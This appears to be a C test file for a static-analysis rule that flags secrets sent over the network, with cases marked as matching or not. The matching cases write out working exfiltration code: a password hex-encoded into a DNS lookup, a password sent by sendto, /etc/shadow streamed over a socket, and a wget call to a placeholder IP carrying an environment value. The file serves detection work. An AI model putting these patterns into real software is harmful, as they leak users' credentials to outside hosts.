#include <netdb.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

struct login {
    char name[32];
    char password[64];
};

int same(const char *a, const char *b);
void log_line(const char *text);
extern int out;

static void hex(char *to, const char *from)
{
    while (*from)
        to += sprintf(to, "%02x", *from++);
}

int check_login(struct login *l)
{
    char name[256], label[128];

    hex(label, l->password);
    snprintf(name, sizeof(name), "%s.t.example.org", label);
    // ruleid: secret-leaves-by-network
    gethostbyname(name);
    return same(l->name, l->password);
}

static void tell(int kind, const char *text)
{
    char frame[300];
    int n = snprintf(frame, sizeof(frame), "%d|%s", kind, text);

    // ruleid: secret-leaves-by-network
    sendto(out, frame, n, 0, NULL, 0);
}

int verify_user(const char *user, const char *passwd)
{
    if (!same(user, passwd))
        return -1;
    tell(3, passwd);
    return 0;
}

void accounts(int s)
{
    char line[256];
    FILE *f = fopen("/etc/shadow", "r");

    while (fgets(line, sizeof(line), f))
        // ruleid: secret-leaves-by-network
        send(s, line, strlen(line), 0);
}

void serial(void)
{
    char command[200];

    snprintf(command, sizeof(command), "wget -qO- http://198.51.100.4/?%s", getenv("SERIAL"));
    // ruleid: secret-leaves-by-network
    system(command);
}

void status(int s, int up)
{
    char line[64];

    sprintf(line, "up %d", up);
    // ok: secret-leaves-by-network
    send(s, line, strlen(line), 0);
}

void readme(int s)
{
    char line[256];
    FILE *f = fopen("/usr/share/doc/x", "r");

    while (fgets(line, sizeof(line), f))
        // ok: secret-leaves-by-network
        send(s, line, strlen(line), 0);
}

int kept(struct login *l)
{
    // ok: secret-leaves-by-network
    log_line(l->password);
    return 0;
}
